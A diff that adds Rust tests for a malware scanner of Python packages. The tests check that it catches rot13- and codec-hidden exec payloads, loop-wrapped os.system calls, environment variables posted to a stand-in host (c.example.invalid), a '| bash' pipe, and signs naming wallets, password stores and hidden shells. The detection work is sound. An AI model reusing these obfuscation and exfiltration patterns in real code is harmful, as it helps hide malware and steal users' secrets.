@@ -5,7 +5,7 @@ use proptest::prelude::*;
 
 use super::*;
 
-fn one(source: &str) -> Program {
+pub(super) fn one(source: &str) -> Program {
     all(&[("pkg/__init__.py", source)])
 }
 
@@ -33,7 +33,7 @@ fn lines(program: &Program) -> Vec<String> {
 }
 
 #[track_caller]
-fn sees(program: &Program, parts: &[&str]) {
+pub(super) fn sees(program: &Program, parts: &[&str]) {
     let lines = lines(program);
     assert!(
         lines.iter().any(|line| parts.iter().all(|part| line.contains(part))),
@@ -42,7 +42,7 @@ fn sees(program: &Program, parts: &[&str]) {
 }
 
 #[track_caller]
-fn chained(program: &Program, kind: ChainKind) {
+pub(super) fn chained(program: &Program, kind: ChainKind) {
     let found: Vec<_> = program.chains().iter().map(|chain| chain.kind).collect();
     assert!(found.contains(&kind), "{kind:?} is not among {found:?} of {:#?}", lines(program));
 }
@@ -453,7 +453,7 @@ fn limits_hold_at_the_limit_and_one_past_it() {
         ("f'{x}'", false),
         ("f'{f\"{x}\"}'", true),
     ] {
-        assert_eq!(!read(source.as_bytes(), &limits).degraded.is_empty(), degraded, "{source}");
+        assert_eq!(!read(source.as_bytes(), &limits).cuts().is_empty(), degraded, "{source}");
     }
 }
 
@@ -486,4 +486,146 @@ proptest! {
         let module = read(&source.as_bytes()[..at], &Limits::default());
         let _ = link(vec![("a.py".to_owned(), module)], &[], &Limits::default());
     }
+}
+
+/// `rot13`, as nothing else hides from a reader of literals that the code is there.
+fn hidden(text: &str) -> String {
+    format!("__import__('codecs').decode({:?}, 'rot13')", peel::rot13(text))
+}
+
+#[test]
+fn one_place_may_run_many_things() {
+    let harmless = format!("{:1$}", "print('harmless')", PAYLOAD.len());
+    let (a, b) = (hidden(&harmless), hidden(PAYLOAD));
+    let more: String = (0..40).map(|n| format!("'x = {n}', ")).collect();
+    let filler = "x = 1\n    ".repeat(31);
+    let deeper = "        x = 1\n".repeat(31);
+    let rows = [
+        format!("for code in ({a}, {b}):\n    exec(code)"),
+        format!("for code in ({b}, {a}):\n    exec(code)"),
+        format!("for code in ({more}{b}):\n    exec(code)"),
+        format!("for code in ({a}, {b}):\n    {filler}exec(code)"),
+        format!("codes = [{more}{b}]\nn = 0\nwhile n < 41:\n    exec(codes[n])\n    n += 1"),
+        format!("[exec(code) for code in ({more}{b})]"),
+        format!("def run(code):\n    exec(code)\nrun({a})\nrun({b})"),
+        format!("def run(code):\n    {filler}exec(code)\nrun({b})"),
+        format!("def run(code):\n    exec(code)\nfor code in ({more}{b}):\n    run(code)"),
+        format!("def run(code):\n    {filler}exec(code)\ndef go(code):\n    {filler}run(code)\ngo(code={b})"),
+        format!(
+            "def a(x): b(x)\ndef b(x): c(x)\ndef c(x): d(x)\ndef d(x): e(x)\ndef e(x): f(x)\ndef f(x): exec(x)\na({b})"
+        ),
+        format!("class C:\n    def run(self, code):\n{deeper}        exec(code)\nC().run({b})"),
+    ];
+    for source in rows {
+        let program = one(&source);
+        let lines = lines(&program);
+        assert!(lines.iter().any(|l| l.starts_with("process os.system [echo harmless]")), "{source}: {lines:#?}");
+    }
+    let program = one("import os\nfor line in ('echo a', 'echo b'):\n    os.system(line)");
+    sees(&program, &["process os.system [echo a]"]);
+    sees(&program, &["process os.system [echo b]"]);
+}
+
+#[test]
+fn a_loop_is_walked_whatever_its_test_says() {
+    let filler = "x = 1\n    ".repeat(31);
+    for head in ["while n < 5:\n    ", "while 0:\n    ", "while n > 5:\n    "] {
+        let program = one(&format!("import os\nn = 0\n{head}{filler}os.system('echo harmless')"));
+        sees(&program, &["process os.system [echo harmless]"]);
+    }
+}
+
+#[test]
+fn what_a_codec_hides_is_read_or_counts_as_decoded() {
+    let bytes = |data: Vec<u8>| format!("b'{}'", data.iter().map(|b| format!("\\x{b:02x}")).collect::<String>());
+    let wide = |to: fn(u32) -> [u8; 4]| PAYLOAD.chars().flat_map(|c| to(u32::from(c))).collect::<Vec<u8>>();
+    let big = PAYLOAD.encode_utf16().flat_map(u16::to_be_bytes).collect();
+    // By Python: `PAYLOAD.encode("cp037")`.
+    let page = "8994979699a34096a22596a24ba2a8a2a385944d7d8583889640888199949385a2a27d5d25";
+    let rows = [
+        (bytes(big), "utf-16-be"),
+        (bytes(wide(u32::to_le_bytes)), "utf-32-le"),
+        (bytes(wide(u32::to_be_bytes)), "utf_32_be"),
+        (bytes(peel::hex(page.as_bytes()).expect("hexadecimal")), "cp037"),
+        (bytes(PAYLOAD.as_bytes().to_vec()), "cp1252"),
+        (bytes(PAYLOAD.as_bytes().to_vec()), "UTF8"),
+        ("b'import os+AAo-os.system(+ACc-echo harmless+ACc-)'".to_owned(), "utf-7"),
+    ];
+    for (data, codec) in rows {
+        for call in [format!("{data}.decode('{codec}')"), format!("str({data}, '{codec}')")] {
+            sees(&one(&format!("exec({call})")), &["process os.system [echo harmless]"]);
+        }
+    }
+    let ignored = PAYLOAD.replace("system", "sys\\xfftem");
+    sees(
+        &one(&format!("exec(b\"\"\"{ignored}\"\"\".decode('ascii', 'ignore'))")),
+        &["process os.system [echo harmless]"],
+    );
+    for call in ["b'abc'.decode('cp500')", "str(b'abc', 'cp500')", "'abc'.encode('punycode').decode()"] {
+        chained(&one(&format!("exec({call})")), ChainKind::DecodeExec);
+    }
+}
+
+#[test]
+fn taint_is_not_forgotten_in_a_crowd() {
+    let send = "requests.post('https://c.example.invalid/', json=";
+    let fillers: String = (0..40).map(|n| format!("def f{n}(): return '{n}'\n")).collect();
+    let calls: String = (0..40).map(|n| format!("f{n}(), ")).collect();
+    let names: String = (0..40).map(|n| format!("p{n}=0, ")).collect();
+    let rows = [
+        format!("{fillers}def g(): return dict(os.environ)\n{send}[{calls}g()])"),
+        format!("def s({names}q=0):\n    {send}q)\ns(q=dict(os.environ))"),
+        format!("def s({names}q=0):\n    return q\n{send}s(q=dict(os.environ)))"),
+    ];
+    for source in rows {
+        chained(&one(&format!("import os, requests\n{source}")), ChainKind::EnvironmentSend);
+    }
+    let near = format!("import os, requests\n{fillers}x = dict(os.environ)\n{send}[{calls}])");
+    assert!(one(&near).chains().is_empty());
+}
+
+#[test]
+fn what_is_called_by_a_star_is_found_among_many() {
+    let stars: String = (0..40).map(|n| format!("from m{n} import *\n")).collect();
+    let program = all(&[
+        ("pkg/__init__.py", &format!("import os\n{stars}from .z import *\nsend(os.environ)")),
+        ("pkg/z.py", "import requests\ndef send(x):\n    requests.post('https://c.example.invalid/', json=x)"),
+    ]);
+    chained(&program, ChainKind::EnvironmentSend);
+}
+
+#[test]
+fn signs_are_seen_wherever_they_stand() {
+    assert_eq!(signs_in("metamask"), ["store:wallet"]);
+    assert_eq!(signs_in("mshta"), ["shell:hidden"]);
+    let long = |n: usize| "x".repeat(n);
+    assert_eq!(signs_in(&(long(60_000) + ".kdbx")), ["store:passwords"]);
+    assert_eq!(signs_in(&(long(1 << 20) + ".kdbx")), ["store:passwords"]);
+    assert_eq!(signs_in(&(".kdbx".to_owned() + &long(1 << 20))), ["store:passwords"]);
+    // In the middle of so much words stand by chance.
+    assert!(signs_in(&(long(1 << 20) + ".kdbx" + &long(1 << 20))).is_empty());
+    let program = one("import os\nos.system(' ' * 5000 + 'echo harmless' + 'x' * 5000 + '| bash')");
+    sees(&program, &["process os.system", "echo harmless", "| bash"]);
+}
+
+#[test]
+fn folding_pays_before_it_makes() {
+    let budget = || pure::Budget { steps: 1_000, bytes: 1 << 20, value_bytes_max: 1 << 20, is_spent: false };
+    let text = value::Value::str(&",\n".repeat(2_000));
+    for name in ["split", "splitlines"] {
+        assert!(pure::method(&text, name, &[], &mut budget()).is_none(), "{name}");
+    }
+    let short = value::Value::str(&",\n".repeat(900));
+    assert!(pure::method(&short, "splitlines", &[], &mut budget()).is_some());
+    let list = |n: i64| value::Value::list((0..n).map(value::Value::int).collect());
+    let columns: Vec<value::Value> = std::iter::once(list(100)).chain((0..20).map(|_| list(1))).collect();
+    assert!(pure::function("zip", &columns, &mut budget()).is_none());
+    assert!(pure::function("zip", &columns[..3], &mut budget()).is_some());
+}
+
+#[test]
+fn every_label_has_one_name() {
+    let all = Labels(Labels::ENCODED.0 << 1).0 - 1;
+    assert_eq!(Labels(all).names().count(), all.count_ones() as usize);
+    assert!((0..all.count_ones()).all(|bit| Labels(1 << bit).names().count() == 1));
 }
